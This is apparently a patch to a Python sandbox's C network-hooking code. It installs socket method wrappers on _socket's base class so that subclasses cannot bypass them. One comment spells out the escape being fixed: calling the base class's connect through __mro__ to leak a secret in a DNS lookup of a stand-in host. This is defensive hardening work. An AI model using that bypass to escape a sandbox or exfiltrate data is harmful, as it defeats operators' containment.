@@ -1551,7 +1551,12 @@ static PyObject *meth_trampoline(PyObject *self, PyObject *args,
 }
 
 /* Replace cls.<name> by a method (an instancemethod binds self, which a
- * builtin function would not). */
+ * builtin function would not). cls is _socket's C class: CPython resolves
+ * a host name given to its connect, bind or sendto before it raises the
+ * event, so a wrapper on socket.socket alone let
+ * socket.socket.__mro__[1].connect(s, ("<secret>.example", 80)) send the
+ * query (weaknesses.md 14); every subclass (socket.socket, ssl.SSLSocket)
+ * reaches these through its bases. */
 static int install_method(PyObject *cls, struct meth_wrap *m)
 {
 	PyObject *capsule, *cfn;
@@ -1578,7 +1583,7 @@ static int install_method(PyObject *cls, struct meth_wrap *m)
 	py.Py_DecRef(cfn);
 	if (!m->fn)
 		goto fail;
-	if (py.PyObject_SetAttrString(cls, m->name, m->fn) < 0) {
+	if (sb_wrap_set_on_class(cls, m->name, m->fn) < 0) {
 		py.Py_DecRef(m->fn);
 		m->fn = NULL;
 		goto fail;
@@ -2002,7 +2007,7 @@ static int sync_socket_module(PyObject *mod, struct sb_wrap *w)
 static int install(void)
 {
 	PyObject *mods = py.PyImport_GetModuleDict();
-	PyObject *c_mod, *s_mod, *cls;
+	PyObject *c_mod, *s_mod;
 	size_t i;
 
 	if (sb_g.net.all_installed || !mods)
@@ -2012,6 +2017,10 @@ static int install(void)
 	if (c_mod) {
 		if (capture_socket_class() < 0)
 			return -1;
+		for (i = 0; i < SB_ARRAY_LEN(meth_wraps); i++)
+			if (install_method(sb_g.net.c_socket_class,
+					   &meth_wraps[i]) < 0)
+				return -1;
 		for (i = 0; i < SB_ARRAY_LEN(resolver_wraps); i++)
 			if (sb_wrap_install(&resolver_wraps[i]) < 0)
 				return -1;
@@ -2022,25 +2031,6 @@ static int install(void)
 			    sync_socket_module(s_mod, &resolver_wraps[i]) < 0)
 				return -1;
 		sb_g.net.socket_synced = true;
-	}
-	if (s_mod) {
-		cls = py.PyObject_GetAttrString(s_mod, "socket");
-		if (!cls) {
-			py.PyErr_Clear();
-			return 0;
-		}
-		/* socket.py still running: its name is _socket's class yet */
-		if (cls == sb_g.net.c_socket_class ||
-		    !sb_g.net.c_socket_class) {
-			py.Py_DecRef(cls);
-			return 0;
-		}
-		for (i = 0; i < SB_ARRAY_LEN(meth_wraps); i++)
-			if (install_method(cls, &meth_wraps[i]) < 0) {
-				py.Py_DecRef(cls);
-				return -1;
-			}
-		py.Py_DecRef(cls);
 	}
 	sb_g.net.all_installed = c_mod && s_mod && sb_g.net.socket_synced &&
 				 meth_wraps[0].fn;
